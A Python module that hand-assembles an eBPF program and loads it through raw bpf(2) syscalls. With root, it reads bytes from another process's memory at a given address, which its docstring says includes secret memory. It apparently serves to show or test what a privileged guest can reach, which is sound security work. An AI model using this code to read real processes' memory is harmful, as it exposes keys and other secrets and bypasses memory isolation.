"""Reads the memory of another process as guest root can: by a BPF program on a tracepoint, without any compiler.

The program runs in the context of the victim whenever it makes a system call, and copies with `bpf_probe_read_user`
what the victim's own address space has there, secret memory included. Source: bpf(2), bpf-helpers(7).
"""

import ctypes
import os
import struct
import time
from typing import Final

__all__ = ["BYTES", "read_user"]

BYTES: Final = 256
"""Bytes that are read at once."""

_SYS_BPF: Final = 321
_MAP_CREATE, _MAP_LOOKUP, _PROG_LOAD, _RAW_TRACEPOINT_OPEN = 0, 1, 5, 17
_ARRAY, _RAW_TRACEPOINT = 2, 17
_LOOKUP_ELEMENT, _PID_TGID, _PROBE_READ_USER = 1, 14, 112
_CALL, _EXIT, _MOVE, _MOVE_REGISTER, _ADD, _SHIFT_RIGHT = 0x85, 0x95, 0xB7, 0xBF, 0x07, 0x77
_STORE_WORD, _LOAD_64, _JUMP_NOT_EQUAL, _JUMP_EQUAL = 0x62, 0x18, 0x55, 0x15
_FRAME, _MAP_FD = 10, 1
_ATTRIBUTES: Final = 128

_libc: Final = ctypes.CDLL(None, use_errno=True)


def read_user(pid: int, address: int, *, seconds: float = 0.5) -> bytes:
    """BYTES bytes at an address of a process that makes system calls meanwhile; zeros if they cannot be read.

    Raises OSError where bpf(2) is denied.
    """
    table = _bpf(_MAP_CREATE, struct.pack("<5I", _ARRAY, 4, BYTES, 1, 0))
    code = _program(pid, address, table)
    text, license_text = ctypes.create_string_buffer(code, len(code)), ctypes.create_string_buffer(b"GPL")
    attributes = struct.pack(
        "<IIQQ", _RAW_TRACEPOINT, len(code) // 8, ctypes.addressof(text), ctypes.addressof(license_text)
    )
    program = _bpf(_PROG_LOAD, attributes)
    name = ctypes.create_string_buffer(b"sys_enter")
    link = _bpf(_RAW_TRACEPOINT_OPEN, struct.pack("<QI", ctypes.addressof(name), program))
    time.sleep(seconds)
    key, value = ctypes.c_uint32(0), ctypes.create_string_buffer(BYTES)
    _bpf(_MAP_LOOKUP, struct.pack("<IIQQ", table, 0, ctypes.addressof(key), ctypes.addressof(value)))
    for fd in (link, program, table):
        os.close(fd)
    return value.raw


def _bpf(command: int, attributes: bytes) -> int:
    buffer = ctypes.create_string_buffer(attributes, _ATTRIBUTES)
    result = int(_libc.syscall(_SYS_BPF, command, buffer, _ATTRIBUTES))
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def _instruction(code: int, to: int = 0, source: int = 0, *, offset: int = 0, value: int = 0) -> bytes:
    return struct.pack("<BBhi", code, to | source << 4, offset, value)


def _program(pid: int, address: int, table: int) -> bytes:
    """If the caller is `pid`: probe_read_user(lookup(table, 0), BYTES, address)."""
    low, high = struct.unpack("<ii", struct.pack("<Q", address))
    return b"".join(
        (
            _instruction(_CALL, value=_PID_TGID),
            _instruction(_SHIFT_RIGHT, 0, value=32),
            _instruction(_JUMP_NOT_EQUAL, 0, offset=12, value=pid),
            _instruction(_STORE_WORD, _FRAME, offset=-4),
            _instruction(_MOVE_REGISTER, 2, _FRAME),
            _instruction(_ADD, 2, value=-4),
            _instruction(_LOAD_64, 1, _MAP_FD, value=table),
            _instruction(0),
            _instruction(_CALL, value=_LOOKUP_ELEMENT),
            _instruction(_JUMP_EQUAL, 0, offset=5),
            _instruction(_MOVE_REGISTER, 1, 0),
            _instruction(_MOVE, 2, value=BYTES),
            _instruction(_LOAD_64, 3, value=low),
            _instruction(0, value=high),
            _instruction(_CALL, value=_PROBE_READ_USER),
            _instruction(_MOVE, 0),
            _instruction(_EXIT),
        )
    )
